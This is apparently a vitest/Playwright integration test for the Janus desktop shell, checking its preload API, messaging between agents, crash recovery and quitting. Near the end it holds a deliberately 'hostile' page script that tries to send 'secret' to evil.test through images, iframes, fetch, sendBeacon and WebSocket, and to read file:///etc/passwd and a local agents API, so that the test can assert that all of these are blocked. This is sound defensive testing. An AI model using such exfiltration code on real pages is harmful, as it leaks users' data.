import { mkdtemp, realpath, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium, type Browser, type Page } from '@playwright/test'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { composeJanus } from '../compose.ts'
import { createShell } from './desktop.ts'
import { ChromiumWindow } from './testing/chromium-window.ts'
import { ElectronStandIn } from './testing/electron-stand-in.ts'

// The real renderer in a real Chromium, the built preload, the real CLI on the rehearsal model; only Electron stands in.
const dist = join(import.meta.dirname, '..', '..', '..', 'dist')
const electron = new ElectronStandIn()
const lines: string[] = []
let place = ''
let browser: Browser
let page: Page
let window: ChromiumWindow

beforeAll(async () => {
  place = await realpath(await mkdtemp(join(tmpdir(), 'janus-desktop-')))
  browser = await launch()
  page = await browser.newPage()
  window = await ChromiumWindow.open(page, electron, join(dist, 'preload', 'preload.cjs'))
  electron.app.ready.resolve(undefined)
  const environment = { PATH: process.env['PATH'], HOME: place, LANG: 'C.UTF-8' }
  await createShell(electron, {
    folder: place,
    profile: join(place, 'window'),
    files: { renderer: join(dist, 'renderer'), preload: '', icon: '' },
    platform: 'linux',
    canRehearse: false,
    now: Date.now,
    isHurried: () => false,
    log: (line) => lines.push(line),
    started: () => undefined,
    compose: (_which, host) =>
      composeJanus({
        ...{ folder: place, port: 0, rehearse: true, environment, host },
        mcpServer: {
          command: process.execPath,
          args: [join(dist, 'mcp-servers', 'agents.js')],
          env: { ELECTRON_RUN_AS_NODE: '1' },
        },
        log: (line) => lines.push(line),
        crashed: (error) => lines.push(String(error)),
      }),
  })
})
afterAll(async () => {
  await browser.close()
  await rm(place, { recursive: true, force: true, maxRetries: 5 })
})

/** What the page finds of the desktop. */
interface Seen {
  janus: { request: (kind: string, input: unknown) => Promise<unknown> }
}
const ask = (kind: string, input: unknown) =>
  page.evaluate(([k, i]) => (globalThis as unknown as Seen).janus.request(k, i), [kind, input] as const)

test('the window opens on the first screen, over the desktop', async () => {
  await page.getByRole('form', { name: 'First agent' }).waitFor()
  expect(await ask('app.status', {})).toMatchObject({ answer: { shell: 'desktop', rehearsal: true } })
})

test('the page has two functions of the desktop, and nothing of Node', async () => {
  const found = await page.evaluate(() => {
    const { janus, ...rest } = globalThis as unknown as Record<string, object>
    return [
      Object.keys(janus ?? {}).sort(),
      ['require', 'process', 'module', 'Buffer'].filter((name) => name in rest),
    ]
  })
  expect(found).toEqual([['request', 'subscribe'], []])
})

test('an agent answers in it, and its mail goes by a tool server started as Electron would be', async () => {
  for (const name of ['scout', 'puppet']) {
    expect(await ask('agents.create', { name, cwd: place })).toMatchObject({ answer: { name } })
  }
  await page
    .getByRole('navigation', { name: 'Tabs' })
    .getByRole('button', { name: /^scout/ })
    .click()
  const composer = page.getByRole('textbox', { name: 'Message to scout' })
  await composer.fill(
    'call: send_to_agent {"target":"puppet","message":"say: Heard in a window."}\nsay: Sent.',
  )
  await composer.press('Enter')
  await page.getByRole('log').getByText('Sent.', { exact: true }).waitFor()
  await page
    .getByRole('navigation', { name: 'Tabs' })
    .getByRole('button', { name: /^puppet/ })
    .click()
  await page.getByRole('log').getByText('Heard in a window.', { exact: true }).waitFor()
})

test('a refusal comes as a value, a page outside is asked for, and nothing else leaves', async () => {
  expect(await ask('agents.stop', { agent: 'nobody' })).toMatchObject({ error: { code: 'unknown_agent' } })
  expect(await ask('pages.open', { url: 'javascript:alert(1)' })).toMatchObject({
    error: { code: 'bad_request' },
  })
  const went = window.next()
  await page.evaluate(hostile)
  expect(await went).toBe('https://evil.test/go')
  // Neither the rules of the page nor the guards let anything out; the page is still ours.
  expect(window.stopped).toEqual([])
  expect(page.url()).toBe('https://janus.test/')
  expect(electron.opened).toEqual([])
  expect(await ask('app.status', {})).toHaveProperty('answer')
})

test('a page that broke down comes again with everything said', async () => {
  electron.window.webContents.tell('render-process-gone', {}, { reason: 'crashed', exitCode: 1 })
  await page.waitForURL('https://janus.test/')
  await page
    .getByRole('navigation', { name: 'Tabs' })
    .getByRole('button', { name: /^puppet/ })
    .click()
  await page.getByRole('log').getByText('Heard in a window.', { exact: true }).waitFor()
})

test('a quit ends every process, then the app', async () => {
  electron.app.quit()
  expect(await electron.app.exited.promise).toBe(0)
  expect(lines.filter((line) => /error/i.test(line))).toEqual([])
})

/** Everything by which a page could tell somebody else something, or go there. */
const hostile = `(async () => {
  const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields))
  put('img', { src: 'https://evil.test/?d=secret' })
  put('iframe', { src: 'https://evil.test/frame' })
  put('link', { rel: 'prefetch', href: 'https://evil.test/prefetch' })
  put('link', { rel: 'stylesheet', href: 'https://evil.test/style' })
  put('video', { src: 'https://evil.test/video' })
  put('a', { id: 'away', href: 'https://evil.test/go' })
  for (const address of ['https://evil.test/', 'http://127.0.0.1:9223/api/agents', 'file:///etc/passwd']) {
    await fetch(address).catch(() => {})
  }
  navigator.sendBeacon('https://evil.test/beacon', 'secret')
  try { new WebSocket('wss://evil.test/') } catch {}
  document.querySelector('#away').click()
})()`

function launch(): Promise<Browser> {
  // Found by the configuration of the tests; without one, Playwright's own.
  const path = process.env['JANUS_CHROMIUM']
  return chromium.launch({
    ...(path ? { executablePath: path } : {}),
    args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
  })
}
